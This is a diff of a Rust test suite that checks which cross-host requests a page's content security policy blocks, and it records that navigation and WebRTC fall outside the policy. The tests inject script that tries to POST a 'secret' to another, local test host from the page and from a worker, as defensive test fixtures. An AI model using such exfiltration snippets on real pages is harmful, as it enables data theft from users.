@@ -1,7 +1,7 @@
-//! Tests what the page's policy makes the browser refuse, and what it doesn't cover.
+//! Tests which requests the page's content security policy refuses, and which it doesn't cover.
 //!
-//! Every visit checks that the page requested nothing but its own files. Here code is put into the page that tries to send
-//! something. README.md claims what these tests show.
+//! Every visit checks that the page requested only its own files. These tests add code to the page that tries to send data. They
+//! support the claims in README.md.
 
 use std::collections::BTreeMap;
 use std::net::UdpSocket;
@@ -14,7 +14,7 @@ use crate::server::{Answered, Server, is_built_from};
 use crate::visit::{Visit, visit};
 
 #[test]
-fn the_page_names_its_policy_before_anything_it_loads() -> Result<()> {
+fn policy_comes_before_anything_the_page_loads() -> Result<()> {
     visit(|page| {
         page.open()?;
         let script = "
@@ -40,12 +40,12 @@ fn the_page_names_its_policy_before_anything_it_loads() -> Result<()> {
 }
 
 #[test]
-fn the_browser_refuses_every_request_of_the_page_to_another_host() -> Result<()> {
+fn browser_refuses_every_request_of_the_page_to_another_host() -> Result<()> {
     let outside = another_host()?;
     Visit::default().tolerating(outside.host()).run(|page| {
         page.open()?;
         page.browser.run(ATTEMPTS, json!([outside.origin()]))?;
-        // Each kind as often as it is tried.
+        // How often each kind is tried.
         let kinds = [
             ("connect-src", 5),
             ("default-src", 1),
@@ -64,13 +64,13 @@ fn the_browser_refuses_every_request_of_the_page_to_another_host() -> Result<()>
             let n_refused = |kind: &str| refused.as_array().into_iter().flatten().filter(|one| *one == kind).count();
             Ok(kinds.iter().all(|(kind, n)| n_refused(kind) >= *n))
         });
-        waited.with_context(|| format!("refused were only {refused}"))?;
+        waited.with_context(|| format!("only these were refused: {refused}"))?;
         ensure!(outside.answered().is_empty(), "this got out: {:?}", outside.answered());
         Ok(())
     })
 }
 
-/// Tries to send something to the host in `arguments[0]` in every way but navigation.
+/// Tries to send data to the host in `arguments[0]` in every way except navigation.
 const ATTEMPTS: &str = "
     const url = `${arguments[0]}/secret`;
     const refused = window.refused = [];
@@ -113,7 +113,7 @@ const ATTEMPTS: &str = "
     }";
 
 #[test]
-fn the_browser_refuses_requests_of_the_worker_to_another_host() -> Result<()> {
+fn browser_refuses_requests_of_the_worker_to_another_host() -> Result<()> {
     let outside = another_host()?;
     let origin = outside.origin();
     let attempt = format!("fetch('{origin}/secret', {{ method: 'POST', body: 'secret' }}).catch(() => {{}});\n");
@@ -132,7 +132,7 @@ fn the_browser_refuses_requests_of_the_worker_to_another_host() -> Result<()> {
 }
 
 #[test]
-fn of_requests_to_the_pages_own_host_the_policy_covers_only_forms() -> Result<()> {
+fn policy_covers_only_forms_of_requests_to_the_pages_own_host() -> Result<()> {
     Visit::default().tolerating("404").tolerating("form-action").run_with_server(|page, server| {
         page.open()?;
         let form = "
@@ -161,7 +161,7 @@ fn of_requests_to_the_pages_own_host_the_policy_covers_only_forms() -> Result<()
 }
 
 #[test]
-fn the_policy_does_not_cover_navigation() -> Result<()> {
+fn policy_does_not_cover_navigation() -> Result<()> {
     let outside = another_host()?;
     let origin = outside.origin();
     Visit::default().tolerating(&origin).expecting_requests_to(&origin).run(|page| {
@@ -182,13 +182,13 @@ fn the_policy_does_not_cover_navigation() -> Result<()> {
     })
 }
 
-/// Records what it is asked for, and has nothing.
+/// Starts a server that records requests and has no files.
 fn another_host() -> Result<Server> {
     Server::start(&named("CAMLSCOPE_DIST")?, Box::new(|_, _| None), BTreeMap::new())
 }
 
 #[test]
-fn the_policy_does_not_cover_webrtc() -> Result<()> {
+fn policy_does_not_cover_webrtc() -> Result<()> {
     let outside = UdpSocket::bind("127.0.0.1:0")?;
     let address = outside.local_addr()?;
     visit(|page| {
